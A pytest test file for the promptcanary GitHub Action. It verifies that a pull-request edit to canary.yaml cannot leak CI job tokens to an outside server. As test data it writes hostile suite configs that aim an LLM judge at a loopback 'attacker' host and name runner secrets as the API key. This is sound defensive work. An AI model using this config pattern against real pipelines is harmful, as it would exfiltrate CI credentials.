"""No token leaves the job: a canary.yaml edit cannot send the job's tokens to another server.

The Action's ``main()`` runs in this process on the real process environment (as in the
container), the suite's ``llm_judge`` points at a loopback "attacker" server, and the real
LiteLLM makes the judge's requests. The attacker must never see a token of the job.
"""

from __future__ import annotations

import io
import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

os.environ.setdefault("LITELLM_LOCAL_MODEL_COST_MAP", "True")

import pytest

from promptcanary.action.main import main
from tests.fakes.action_runner import FakeRunner, load_event, parse_output_file
from tests.fakes.github_server import FakeGitHubServer
from tests.fakes.llm_server import FakeLLMServer
from tests.integration.action_support import BOT, MODEL, REPO, WORKFLOWS
from tests.integration.action_world import KEY, PR, World

RUNTIME_TOKEN = "actions-runtime-token-0123456789"
#: A secret the job holds for another step (a deployment), passed in the step's env.
DEPLOY_TOKEN = "deploy-token-0123456789abcdef"
OIDC_TOKEN = "actions-oidc-request-token-0123456789"


class Stage:
    def __init__(self, world: World, attacker: FakeLLMServer) -> None:
        self.world, self.attacker = world, attacker

    def suite(self, judge: str) -> None:
        text = (
            "name: theft\n"
            f"provider: {MODEL}\n"
            "probes:\n"
            "  - type: llm_judge\n"
            "    rubric: Is the answer polite?\n"
            "    model: openai/judge\n"
            f"    api_base: {self.attacker.base_url}\n"
            f"{judge}"
            "prompts:\n"
            "  - id: capital\n"
            "    text: What is the capital of France?\n"
        )
        (self.world.runner.workspace / "canary.yaml").write_text(text, encoding="utf-8")

    def attacker_host(self) -> str:
        return self.attacker.base_url.split("://", 1)[1].split("/", 1)[0]

    def run(
        self, monkeypatch: pytest.MonkeyPatch, **inputs: str
    ) -> tuple[int, str, dict[str, str]]:
        """One step with the runner's environment as the real process environment."""
        runner = self.world.runner
        env, step = runner.prepare(
            event_name="pull_request",
            event=load_event("pull_request.opened"),
            inputs={"provider": MODEL, **inputs},
            extra_env={
                "GITHUB_TOKEN": runner.token,
                "GH_TOKEN": runner.token,
                "ACTIONS_RUNTIME_TOKEN": RUNTIME_TOKEN,
                "ACTIONS_ID_TOKEN_REQUEST_TOKEN": OIDC_TOKEN,
                "DEPLOY_TOKEN": DEPLOY_TOKEN,
            },
        )
        for name, value in env.items():
            monkeypatch.setenv(name, value)
        stream = io.StringIO()
        code = main(
            None,
            stream,
            github_factory=self.world.github,
            make_provider=self.world.provider,
        )
        outputs = parse_output_file((step / "output").read_text(encoding="utf-8"))
        return code, stream.getvalue(), outputs

    def seen_by_attacker(self) -> str:
        return json.dumps([self.attacker.headers, self.attacker.requests])


@pytest.fixture
def stage(tmp_path: Path) -> Iterator[Stage]:
    verdict = json.dumps({"score": 1, "reason": "polite"})

    def judge(request: dict[str, Any]) -> str:
        return verdict

    with (
        FakeGitHubServer() as gh,
        FakeLLMServer(lambda request: "Paris.") as llm,
        FakeLLMServer(judge) as attacker,
    ):
        gh.add_repo(REPO, branches=("master", "changes"), workflows=WORKFLOWS)
        gh.add_pull_request(REPO, PR, head_ref="changes")
        runner = FakeRunner(tmp_path, api_url=gh.base_url, provider_env={"OPENAI_API_KEY": KEY})
        yield Stage(World(runner, gh, llm, {}), attacker)


def job_tokens(stage: Stage) -> list[str]:
    return [stage.world.runner.token, RUNTIME_TOKEN, OIDC_TOKEN]


@pytest.mark.parametrize(
    "name", ["INPUT_GITHUB_TOKEN", "GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "RUNNER_X"]
)
def test_a_judge_naming_a_runner_variable_is_a_config_error_on_its_line(
    stage: Stage, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    stage.suite(f"    api_key_env: {name}\n")

    code, stdout, _ = stage.run(monkeypatch)

    assert code == 2
    error = next(line for line in stdout.splitlines() if line.startswith("::error"))
    assert "canary.yaml:8" in error and f"api_key_env '{name}'" in error
    assert stage.attacker.requests == [] and stage.world.llm.requests == []


def test_the_job_tokens_are_gone_before_the_suite_runs(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    # GH_TOKEN is not under a refused prefix, but it is the job's token: it must be gone.
    stage.suite("    api_key_env: GH_TOKEN\n")

    # Even a workflow that allows the host and the variable gives the judge no job token.
    allow = {"judge-hosts": stage.attacker_host(), "judge-key-env": "GH_TOKEN"}
    code, stdout, outputs = stage.run(monkeypatch, **allow)

    assert code == 0, stdout
    assert outputs["result"] == "no-baseline"
    assert stage.world.llm.requests  # the model was measured
    assert stage.attacker.requests == []  # the judge had no key to send
    seen = stage.seen_by_attacker()
    assert all(token not in seen for token in job_tokens(stage))
    for name in ("GITHUB_TOKEN", "GH_TOKEN", "INPUT_GITHUB_TOKEN", "INPUT_GITHUB-TOKEN"):
        assert name not in os.environ, name
    assert "ACTIONS_RUNTIME_TOKEN" not in os.environ
    assert "ACTIONS_ID_TOKEN_REQUEST_TOKEN" not in os.environ
    printed = "\n".join(x for x in stdout.splitlines() if not x.startswith("::add-mask::"))
    assert all(token not in printed for token in job_tokens(stage))
    # The GitHub client kept the token in memory: the sticky comment was posted with it.
    assert [c["user"]["login"] for c in stage.world.gh.repos[REPO].comments_on(PR)] == [BOT]


def test_a_judge_on_another_server_never_gets_a_job_token(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without api_key_env LiteLLM sends the provider's own key (the step's OPENAI_API_KEY):
    the attacker is reached through the real LiteLLM, and sees no token of the job."""
    stage.suite("")

    code, stdout, _ = stage.run(monkeypatch, **{"judge-hosts": stage.attacker_host()})

    assert code == 0, stdout
    assert len(stage.attacker.requests) == 1  # the judge really went out
    seen = stage.seen_by_attacker()
    assert all(token not in seen for token in job_tokens(stage))


# ── canary.yaml may send a key only where the workflow allows ────────────────────────────────


def test_a_judge_naming_a_host_and_a_secret_the_workflow_did_not_allow_is_refused(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    stage.suite("    api_key_env: DEPLOY_TOKEN\n")

    code, stdout, _ = stage.run(monkeypatch)

    assert code == 2
    assert stage.attacker.requests == [] and stage.world.llm.requests == []  # before any call
    error = next(line for line in stdout.splitlines() if line.startswith("::error"))
    host = stage.attacker_host()
    assert "canary.yaml:7" in error  # the api_base line
    assert f"line 7: api_base: {host}" in error and "line 8: api_key_env: DEPLOY_TOKEN" in error
    assert f"judge-hosts: {host}" in error and "judge-key-env: DEPLOY_TOKEN" in error
    printed = "\n".join(x for x in stdout.splitlines() if not x.startswith("::add-mask::"))
    assert DEPLOY_TOKEN not in printed


def test_a_host_allowed_on_another_port_is_still_refused(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    stage.suite("")

    code, stdout, _ = stage.run(monkeypatch, **{"judge-hosts": "127.0.0.1:1"})

    assert code == 2 and stage.attacker.requests == []
    assert "judge-hosts: " + stage.attacker_host() in stdout


def test_what_the_workflow_allows_is_sent(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
    stage.suite("    api_key_env: DEPLOY_TOKEN\n")
    allow = {
        "judge-hosts": f"other.example, {stage.attacker_host()}",
        "judge-key-env": "DEPLOY_TOKEN",
    }

    code, stdout, _ = stage.run(monkeypatch, **allow)

    assert code == 0, stdout
    [headers] = stage.attacker.headers
    assert {k.lower(): v for k, v in headers.items()}["authorization"] == f"Bearer {DEPLOY_TOKEN}"
